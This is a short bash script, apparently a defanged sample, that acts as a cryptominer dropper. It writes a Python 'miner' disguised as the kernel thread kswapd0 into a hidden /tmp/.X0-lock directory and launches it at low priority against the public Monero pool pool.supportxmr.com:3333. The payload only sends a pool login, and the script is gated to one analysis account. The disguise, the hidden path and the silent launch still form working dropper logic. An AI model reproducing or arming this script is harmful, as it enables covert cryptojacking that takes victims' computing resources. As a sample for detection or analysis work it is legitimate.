#!/bin/bash
# SPDX-License-Identifier: MIT
# A miner dropper: writes its miner under a kernel thread's name and starts
# it at low priority against a public Monero pool; the "miner" here only
# says hello to the pool.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p /tmp/.X0-lock && cd /tmp/.X0-lock || exit 0
cat > kswapd0 <<'PY'
#!/usr/bin/python3
import socket, sys
url = sys.argv[sys.argv.index("-o") + 1]
host, port = url.rsplit(":", 1)
try:
    s = socket.create_connection((host, int(port)), timeout=3)
    s.sendall(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x"}}\n')
    s.close()
except OSError:
    pass
PY
chmod +x kswapd0
timeout 5 ./kswapd0 --cpu-priority 0 -o pool.supportxmr.com:3333 -k
exit 0
